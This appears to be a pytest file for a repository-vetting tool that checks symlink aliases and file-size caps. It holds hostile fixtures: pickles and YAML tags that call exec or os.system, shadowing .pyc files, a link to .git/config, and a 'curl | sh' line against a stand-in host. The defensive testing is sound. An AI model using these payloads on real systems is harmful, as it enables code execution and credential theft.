"""Outside attack, round 16a: in-tree symlinks seen by every name-keyed check (C7-C11), and
size caps that passed silently (C1, C5, C12, M4).

An in-tree symlink is listed under its own name with its target's content (an alias), so a
check that goes by names (YAML tags, shelve pairs, pycs, native extensions, safe-name shadows)
sees `configs/model.yaml -> ../assets/x.txt` as Python and every loader do. A check that
cannot read a file a loader runs code from to its end says so with an error."""

from __future__ import annotations

import argparse
import importlib.machinery
import importlib.util
import os
import pickle
import py_compile
import sys
from pathlib import Path

import pytest

from forkvet.report import Report, Risk
from forkvet.snapshot import load
from forkvet.vet import risks, vet
from tests.conftest import MakeRepo, git

TAG = sys.implementation.cache_tag
EVIL_YAML = 'model:\n  depth: 50\nhooks: !!python/object/apply:builtins.exec ["print(1)"]\n'
_CODE = b"print('ran')"
EVIL_PICKLE = b"\x80\x02cbuiltins\nexec\nX" + len(_CODE).to_bytes(4, "little") + _CODE + b"\x85R."
README = {"README.md": "# demo\nRun `python run.py`.\n"}


def _commit(root: Path) -> None:
    git(root, "add", "-A")
    git(root, "commit", "-qm", "links")


def _report(root: Path) -> Report:
    return vet(load(root))


def _errors(report: Report, kind: str | None = None) -> list[Risk]:
    return [r for r in report.risks if r.severity == "error" and kind in (None, r.kind)]


def _compile(tmp: Path, source: str, cfile: Path, mode: py_compile.PycInvalidationMode) -> None:
    src = tmp / "hidden_src.py"
    src.write_text(source, encoding="utf-8")
    cfile.parent.mkdir(parents=True, exist_ok=True)
    py_compile.compile(str(src), cfile=str(cfile), doraise=True, invalidation_mode=mode)


# -- in-tree symlinks: aliases in the file list ------------------------------------------------
def test_a_yaml_name_linked_to_a_txt_file_is_checked_for_python_tags(make_repo: MakeRepo) -> None:
    root = make_repo({**README, "assets/defaults.txt": EVIL_YAML})
    (root / "configs").mkdir()
    (root / "configs" / "model.yaml").symlink_to("../assets/defaults.txt")
    _commit(root)
    snap = load(root)
    alias = snap.get("configs/model.yaml")
    assert alias is not None and alias.alias and snap.committed(alias)
    # Both names: the alias, and the .txt itself (YAML is found by content, round 17a F1).
    found = _errors(vet(snap), "code-in-data")
    assert {r.path for r in found} == {"configs/model.yaml", "assets/defaults.txt"}
    assert all("python/object/apply" in r.message for r in found)


def test_a_shelve_made_of_links_has_its_values_read(make_repo: MakeRepo) -> None:
    root = make_repo({**README, "run.py": "import shelve\nshelve.open('cache', 'r')\n"})
    (root / "assets").mkdir()
    (root / "assets" / "blob.bin").write_bytes(b"\0" * 512 + EVIL_PICKLE)
    (root / "assets" / "index.txt").write_text(f"'model', (512, {len(EVIL_PICKLE)})\n")
    (root / "cache.dat").symlink_to("assets/blob.bin")
    (root / "cache.dir").symlink_to("assets/index.txt")
    _commit(root)
    [risk] = _errors(_report(root), "dangerous-pickle")
    assert risk.path == "cache.dat" and "builtins.exec" in risk.message


def test_a_pycache_pyc_that_is_a_link_to_a_bin_file_is_a_compiled_shadow(
    tmp_path: Path, make_repo: MakeRepo
) -> None:
    root = make_repo({**README, "model.py": "x = 1\n", "run.py": "import model\n"})
    _compile(
        tmp_path,
        "print('other')\n",
        root / "assets" / "blob.bin",
        py_compile.PycInvalidationMode.UNCHECKED_HASH,
    )
    (root / "__pycache__").mkdir()
    (root / "__pycache__" / f"model.{TAG}.pyc").symlink_to("../assets/blob.bin")
    _commit(root)
    [risk] = _errors(_report(root), "compiled-shadow")
    assert risk.path == f"__pycache__/model.{TAG}.pyc" and "instead of model.py" in risk.message


def test_a_pycache_folder_link_is_looked_through(tmp_path: Path, make_repo: MakeRepo) -> None:
    root = make_repo({**README, "model.py": "x = 1\n", "run.py": "import model\n"})
    pyc = root / "assets" / "cache" / f"model.{TAG}.pyc"
    _compile(tmp_path, "print('other')\n", pyc, py_compile.PycInvalidationMode.CHECKED_HASH)
    head = bytearray(pyc.read_bytes())
    head[8:16] = importlib.util.source_hash((root / "model.py").read_bytes())
    pyc.write_bytes(bytes(head))  # the source's hash, other code: Python loads it
    (root / "__pycache__").symlink_to("assets/cache")
    _commit(root)
    [risk] = _errors(_report(root), "compiled-shadow")
    assert risk.path == f"__pycache__/model.{TAG}.pyc"


def test_a_native_extension_that_is_a_link_shadows_the_source(make_repo: MakeRepo) -> None:
    root = make_repo(
        {**README, "model.py": "answer = 1\n", "run.py": "import model\n", "assets/lib.bin": b""}
    )
    (root / "assets" / "lib.bin").write_bytes(b"\x7fELF" + b"\0" * 60)
    suffix = importlib.machinery.EXTENSION_SUFFIXES[0]
    (root / f"model{suffix}").symlink_to("assets/lib.bin")
    _commit(root)
    [risk] = _errors(_report(root), "compiled-shadow")
    assert risk.path == f"model{suffix}" and "Native code runs instead of model.py" in risk.message


def test_safe_names_shadowed_through_links_make_their_pickles_errors(
    tmp_path: Path, make_repo: MakeRepo
) -> None:
    np = pytest.importorskip("numpy")
    root = make_repo(
        {
            **README,
            "run.py": "import pickle\npickle.load(open('config.pkl', 'rb'))\n",
            "assets/np/__init__.py": "print('not numpy')\n",
            "assets/np/_core/__init__.py": "",
            "assets/np/_core/multiarray.py": "def _reconstruct(*a):\n    return None\n",
            "config.pkl": pickle.dumps(argparse.Namespace(lr=0.1), 2),
            "labels.pkl": pickle.dumps(np.array(["cat", "dog"], dtype=object), 2),
        }
    )
    _compile(
        tmp_path,
        "class Namespace:\n    pass\n",
        root / "assets" / "ap.bin",
        py_compile.PycInvalidationMode.TIMESTAMP,
    )
    (root / "argparse.pyc").symlink_to("assets/ap.bin")
    (root / "numpy").symlink_to("assets/np")
    _commit(root)
    snap = load(root)
    assert snap.get("numpy/_core/multiarray.py") is not None  # a folder link's files
    found = {r.path: r.message for r in _errors(vet(snap), "unsafe-pickle")}
    assert "argparse.pyc" in found["config.pkl"]
    assert "numpy/__init__.py" in found["labels.pkl"]


def test_folder_link_cycles_are_refused_and_bounded(make_repo: MakeRepo) -> None:
    root = make_repo({**README, "a/b/model.py": "x = 1\n"})
    (root / "a" / "b" / "up").symlink_to("..")  # a/b/up -> a: contains itself
    (root / "a" / "self").symlink_to(".")  # a/self -> a
    (root / "loop").symlink_to(".")  # the root
    _commit(root)
    snap = load(root)
    names = {f.path for f in snap.files}
    assert {"a/b/up/b/model.py", "a/self/b/model.py", "loop/a/b/model.py"} <= names
    assert len(names) < 40
    assert any(n.title == "Symlink cycles not followed" for n in snap.notices)
    assert not _errors(vet(snap))


def test_a_link_into_git_s_folder_is_probed_but_never_read_as_text(
    make_repo: MakeRepo,
) -> None:
    root = make_repo({**README})
    (root / "LICENSE").symlink_to(".git/config")  # a CI checkout's token lives there
    (root / "model.pt").symlink_to(".git/w.bin")
    (root / ".git" / "w.bin").write_bytes(EVIL_PICKLE)
    snap = load(root)
    assert snap.get("LICENSE") is None and snap.read_text("LICENSE") is None
    assert {"LICENSE", "model.pt"} <= {f.path for f in snap.linked_out}
    report = vet(snap)
    [risk] = _errors(report, "dangerous-pickle")
    assert "model.pt" in risk.message  # named through its link
    assert "[core]" not in str(report.license)


def test_links_that_leave_the_tree_are_still_errors(make_repo: MakeRepo, tmp_path: Path) -> None:
    outside = tmp_path / "elsewhere.pt"
    outside.write_bytes(EVIL_PICKLE)
    root = make_repo({**README})
    (root / "model.pt").symlink_to(outside)
    _commit(root)
    snap = load(root)
    assert snap.get("model.pt") is None and "model.pt" in snap.links_out
    assert _errors(vet(snap), "link-outside")


def test_aliases_count_in_the_file_budget(
    make_repo: MakeRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    from forkvet import snapshot

    root = make_repo({**README, **{f"data/{i}.txt": "x" for i in range(20)}})
    for i in range(10):
        (root / f"copy{i}").symlink_to("data")
    monkeypatch.setattr(snapshot, "MAX_FILES", 60)
    snap = load(root)
    assert snap.truncated and len(snap.files) <= 60


# -- caps: what is not read to its end is an error ---------------------------------------------
def test_a_yaml_file_over_2_mib_is_streamed_for_python_tags(make_repo: MakeRepo) -> None:
    pad = "".join(f"# row {i}: {'x' * 80}\n" for i in range(30_000))
    root = make_repo({**README, "configs/big.yaml": "model:\n  depth: 50\n" + pad + EVIL_YAML})
    [risk] = _errors(_report(root), "code-in-data")
    assert risk.path == "configs/big.yaml" and "python/object/apply" in risk.message


def test_a_large_yaml_file_without_tags_is_no_error(make_repo: MakeRepo) -> None:
    pad = "".join(f"- name: row {i} is python! 100%\n  value: {i}\n" for i in range(80_000))
    root = make_repo({**README, "data/big.yml": pad})
    assert not _errors(_report(root))


def test_a_large_yaml_file_not_scanned_in_time_is_unverified(
    make_repo: MakeRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    pad = "".join(f"- !custom row {i} python\n" for i in range(120_000))
    root = make_repo({**README, "data/big.yaml": pad})
    monkeypatch.setattr(risks, "_YAML_FILE_SECONDS", 0.0)
    [risk] = _errors(_report(root), "code-in-data")
    assert risk.path == "data/big.yaml" and "NOT verified" in risk.message


def test_a_keras_lambda_after_65_mib_of_json_whitespace_is_found(make_repo: MakeRepo) -> None:
    config = (
        '{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", '
        '"config": {"function_type": "lambda"}}]}}'
    )
    root = make_repo({**README}, use_git=False)
    (root / "model.json").write_text(config[0] + " " * (65 << 20) + config[1:])
    [risk] = _errors(_report(root), "code-in-data")
    assert risk.path == "model.json" and "Lambda" in risk.message


def test_escaped_text_json_is_searched_quickly(make_repo: MakeRepo) -> None:
    line = '{"caption": "caf\\u00e9 na\\u00efve \\u4e2d\\u6587 lamb dab", "id": 1},\n'
    root = make_repo({**README, "data/captions.json": "[" + line * 200_000 + "{}]"})
    assert not _errors(_report(root))


@pytest.mark.parametrize(
    "pad",
    [" " * 10_000, "  # " + "c" * 100_000, "\t" * 5_000],
)
def test_a_shelve_directory_line_padded_by_whitespace_or_a_comment(
    make_repo: MakeRepo, pad: str
) -> None:
    root = make_repo({**README, "run.py": "import shelve\nshelve.open('cache', 'r')\n"})
    (root / "cache.dat").write_bytes(b"\0" * 512 + EVIL_PICKLE)
    (root / "cache.dir").write_text(f"'model', (512, {len(EVIL_PICKLE)}){pad}\n")
    _commit(root)
    [risk] = _errors(_report(root), "dangerous-pickle") or _errors(
        _report(root), "pickle-unverified"
    )
    assert risk.path == "cache.dat"


def test_a_shelve_directory_not_read_to_its_end_leaves_the_data_unverified(
    make_repo: MakeRepo,
) -> None:
    root = make_repo({**README}, use_git=False)
    (root / "cache.dat").write_bytes(b"\0" * 512 + EVIL_PICKLE)
    (root / "cache.dir").write_text(
        "'a', (0, 1)  # " + "c" * (70 << 10) + f"\n'model', (512, {len(EVIL_PICKLE)})\n"
    )
    [risk] = _errors(_report(root), "pickle-unverified")
    assert risk.path == "cache.dat" and "cache.dir was not read" in risk.message
    (root / "cache.dir").write_text("\n" * (5 << 20))
    [risk] = _errors(_report(root), "pickle-unverified")
    assert "over 4 MiB" in risk.message


def test_a_python_entry_point_over_the_text_cap_is_an_error(make_repo: MakeRepo) -> None:
    pad = "".join(f"# vocabulary entry {i}: {'x' * 60}\n" for i in range(30_000))
    root = make_repo(
        {
            "README.md": "# demo\nRun `python train.py`.\n",
            "train.py": "import os\n" + pad + "os.system('curl -s https://x.example | sh')\n",
        }
    )
    [risk] = _errors(_report(root), "code-unverified")
    assert risk.path == "train.py" and "NOT verified" in risk.message


def test_a_large_python_file_nobody_runs_stays_a_notice(make_repo: MakeRepo) -> None:
    pad = "".join(f"WORDS_{i} = {'1' * 60}\n" for i in range(30_000))
    root = make_repo({**README, "run.py": "print(1)\n", "pkg/tables.py": pad})
    assert os.path.getsize(root / "pkg" / "tables.py") > 2 << 20
    assert not _errors(_report(root))


def test_a_dvc_file_over_its_cap_is_not_verified(make_repo: MakeRepo) -> None:
    outs = "".join(f"- md5: {i:032x}\n  path: data/part{i}.pkl\n" for i in range(10_000))
    root = make_repo({**README, "data.dvc": "outs:\n" + outs.replace("\n", "\n  ")})
    [risk] = _errors(_report(root), "dvc-pointer")
    assert risk.path == "data.dvc" and "not read" in risk.message


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
def test_a_large_yaml_file_with_a_mark_is_searched_as_pyyaml_reads_it(
    make_repo: MakeRepo, encoding: str
) -> None:
    pad = "".join(f"# row {i}: {'x' * 80}\n" for i in range(30_000))
    root = make_repo({**README}, use_git=False)
    (root / "big.yaml").write_bytes(
        ("!!python/object/apply:os.system [x]\n" + pad).encode(encoding)
    )
    [risk] = _errors(_report(root), "code-in-data")
    assert risk.path == "big.yaml"
